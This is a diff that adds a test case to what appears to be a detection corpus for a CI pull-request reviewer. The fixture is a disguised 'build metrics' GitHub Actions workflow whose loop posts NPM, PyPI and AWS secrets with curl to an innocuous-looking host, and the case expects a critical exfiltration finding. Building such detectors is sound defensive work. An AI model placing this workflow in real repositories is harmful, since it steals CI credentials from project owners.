@@ -744,6 +744,42 @@ export const CI_CASES: CorpusEntry[] = [
     expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration', 'gha-overprovisioned-secrets'] },
   },
   {
+    id: 'ci-secrets-sent-in-a-loop-over-names',
+    description:
+      'A GhostAction-style workflow that names the secrets it wants in a list and sends them one by one from a loop (`for n in NPM_TOKEN PYPI_API_TOKEN AWS_SECRET_ACCESS_KEY; do curl -d "$n=${!n}" …; done`) to an ordinary-looking host: no secret is on the sending line, no compgen listing, no collector host.',
+    fixture: ciPr(7314, {
+      title: 'Add build metrics workflow',
+      author: NEWCOMER,
+      fork: true,
+      files: [
+        {
+          path: '.github/workflows/build-metrics.yml',
+          head: [
+            'name: Build metrics',
+            'on:',
+            '  push:',
+            'jobs:',
+            '  metrics:',
+            '    runs-on: ubuntu-latest',
+            '    steps:',
+            '      - name: Report',
+            '        run: |',
+            '          for n in NPM_TOKEN PYPI_API_TOKEN AWS_SECRET_ACCESS_KEY; do',
+            '            curl -s -d "$n=${!n}" "https://metrics.buildpulse-cdn.net/v1/ingest"',
+            '          done',
+            '        env:',
+            '          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}',
+            '          PYPI_API_TOKEN: ${{ secrets.PYPI_API_TOKEN }}',
+            '          AWS_SECRET_ACCESS_KEY: ${{ secrets.AWS_SECRET_ACCESS_KEY }}',
+            '',
+          ].join('\n'),
+        },
+      ],
+      checkRuns: nodeCi(),
+    }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
     id: 'ci-secret-posted-to-ip-hostname',
     description:
       'The September 2025 "GhostAction" workflows: a pushed workflow posts one secret with curl -d to a throwaway host whose name spells a public IP (name.45-139-104-115.plesk.page).',
